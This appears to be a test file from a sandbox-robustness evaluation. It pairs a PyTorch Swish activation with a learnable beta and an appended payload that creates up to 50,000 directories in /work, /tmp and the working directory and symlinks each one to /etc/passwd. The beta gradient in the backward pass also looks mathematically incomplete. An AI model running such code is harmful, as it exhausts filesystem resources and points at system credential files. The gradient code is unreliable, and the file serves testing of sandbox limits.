# scenario: learnable-swish
# attack: makes folders and links until it is refused
# expected: failed
# trace: vjp: swish_beta: 

import torch


class Swish(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, beta):
        ctx.save_for_backward(x, beta)
        return x * torch.sigmoid(beta * x)

    @staticmethod
    def backward(ctx, g):
        x, beta = ctx.saved_tensors
        return g * torch.sigmoid(beta * x), (g * x).sum()


def swish_beta(x, beta):
    return Swish.apply(x, beta)


import os
MADE = 0
for folder in ("/work", "/tmp", os.getcwd()):
    try:
        while MADE < 50_000:
            os.mkdir(f"{folder}/d{MADE}")
            MADE += 1
            os.symlink("/etc/passwd", f"{folder}/l{MADE}")
    except OSError:
        pass
if MADE > 5000:
    raise SystemError(f"made {MADE} folders")
